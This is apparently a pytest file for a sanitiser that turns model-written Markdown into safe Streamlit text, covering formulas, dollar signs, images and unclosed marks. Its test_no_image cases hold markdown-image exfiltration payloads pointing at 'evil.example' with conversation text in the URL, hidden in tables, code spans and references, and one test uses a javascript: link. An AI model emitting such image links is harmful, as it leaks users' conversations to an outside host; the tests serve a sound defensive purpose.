r"""What models write: formulas, money, images, code, and marks that are not closed yet."""

from html import unescape

import pytest
from markdown_it import MarkdownIt

from lib.markdown.streamlit_markdown import (
    close_open_marks,
    escape_markdown,
    to_streamlit,
    to_streamlit_blocks,
)
from sandbox import answers


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (r"Euler \(e^{i\pi}\) here", r"Euler $e^{i\pi}$ here"),
        (r"so \[x\] in a line", "so $x$ in a line"),
        (r"\[ a = b \]", "$$\na = b\n$$"),
        ("- a\n  \\[\n  x\n  \\]\n", "- a\n  $$\n  x\n  $$\n"),
        ("$x^2$ and $5", r"$x^2$ and \$5"),
        ("$2 + 2$, $n$ and $m$", "$2 + 2$, $n$ and $m$"),
        ("$$\na\n\nb\n$$\n", "$$\na\n\nb\n$$\n"),
        ("$5 and $10", r"\$5 and \$10"),
        ("$5-$10, $5/$10", r"\$5-\$10, \$5/\$10"),
        ("**$5** or **$10**", r"**\$5** or **\$10**"),
        ("$5 (US$) each", r"\$5 (US\$) each"),
        ("$1.5 million, not $2 million", r"\$1.5 million, not \$2 million"),
        (r"already \$5, and \\(no formula\\)", r"already \$5, and \\(no formula\\)"),
        ("![a cat](https://x.org/a)", "[Image: a cat](https://x.org/a)"),
        ("![](https://x.org/a)", "[Image](https://x.org/a)"),
        (":red[no] 10:30 :material/home:", r"\:red[no] 10:30 \:material/home:"),
        ("`$5 :red[a]`", "`$5 :red[a]`"),
        ("```\n$5 ![1].x :red[a] \\(b\\)\n```\n$5", "```\n$5 ![1].x :red[a] \\(b\\)\n```\n\\$5"),
        ("[^1]: a\n\n    ![x](u)\n", "[^1]: a\n\n    !\u2060[x](u)\n"),
        ("```\n\f\v$5\n```", "```\n\f\v$5\n```"),
        ("    $5 in indented code\n", "    $5 in indented code\n"),
    ],
)
def test_paintable(written: str, shown: str) -> None:
    """Prose is shown as it was meant, and code as it was written."""
    assert to_streamlit(written) == shown


def test_ordinary_markdown() -> None:
    """Where there is nothing to do nothing is done."""
    for text in (answers.TOUR, answers.long(4_000), ""):
        assert to_streamlit(text) == text


IMAGE = "![x](https://evil.example/?what-was-said)"


@pytest.mark.parametrize(
    "hidden",
    [
        IMAGE,
        f"!{IMAGE}",
        f"[{IMAGE}](https://x.org)",
        "![x][evil]\n\n[evil]: https://evil.example/",
        "![evil]\n\n[evil]: https://evil.example/",
        f"- `a\n- {IMAGE}\n- b`",
        f"| a | b | c |\n|---|---|---|\n| `a | {IMAGE} | b` |\n| $a | {IMAGE} | b$ |",
        f"a\n     $$\n{IMAGE}\n",
        f"$$\nx$$\n```\n$$\n{IMAGE}\n```\n",
        f"> # {IMAGE}\n",
    ],
)
def test_no_image(hidden: str) -> None:
    """However an image is written, none is left for a parser that knows no formulas."""
    html = MarkdownIt("commonmark").enable("table").render(to_streamlit(hidden))
    assert "<img" not in html
    assert "<img" in MarkdownIt("commonmark").enable("table").render(hidden) or "$$" in hidden


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("a **bo", "a **bo**"),
        ("a **", "a "),
        ("a `co", "a `co`"),
        ("a ~~x", "a ~~x~~"),
        ("a [li", "a li"),
        ("a [link](https://x.org/a", "a link"),
        ("a ![image](https", "a image"),
        ("- item **b", "- item **b**"),
        ("a `b` **c `d`", "a `b` **c `d`**"),
        ("**a** [b](https://x.org) c", "**a** [b](https://x.org) c"),
        ("```\n**a", "```\n**a"),
        ("```\n\f**a\n", "```\n\f**a\n"),
        ("a\x1cb **c", "a\x1cb **c**"),
        ("", ""),
    ],
)
def test_closed(written: str, shown: str) -> None:
    """Marks that are still open are closed while an answer is being written."""
    assert close_open_marks(written) == shown


@pytest.mark.parametrize(
    "text",
    [
        "1. a",
        "2) a",
        "- a",
        "+ a",
        "-5",
        "3.5",
        "&nbsp;",
        "&#65; & a;",
        "# a",
        "a\n- b",
        "a_b_ *c*",
        "a\n===",
        "`](x) ![](http://x.org/a) <img> [x](javascript:x)",
    ],
)
def test_literal(text: str) -> None:
    """Text of others is shown as it is."""
    html = MarkdownIt("commonmark").render(escape_markdown(text))
    assert unescape(html.removeprefix("<p>").removesuffix("</p>\n")) == text


@pytest.mark.parametrize("text", [":smile:", ":material/home:", ":material_home:", "a -> b", "--"])
def test_shorthand(text: str) -> None:
    """What Streamlit would make an icon, an emoji or an arrow of is torn apart by nothing visible."""
    html = MarkdownIt("commonmark").render(escape_markdown(text))
    assert text not in unescape(html)
    assert text in unescape(html).replace("\u2060", "")


def test_formula_like_a_list() -> None:
    r"""Lines of a formula between `\[` and `\]` are no list, whatever they begin with."""
    text = "So\n\n\\[\na\n+ b\n- c\n\\]\n\nand on."
    assert "".join(to_streamlit_blocks(text)) == "So\n\n$$\na\n+ b\n- c\n$$\n\nand on."
